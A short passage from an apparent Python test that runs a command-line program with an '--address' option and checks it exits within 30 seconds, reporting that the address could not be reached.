    done = subprocess.run(argv, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert time.monotonic() - started < 30
    said = refused(done.returncode, done.stderr, address, "--address")
    assert "could not be reached" in said
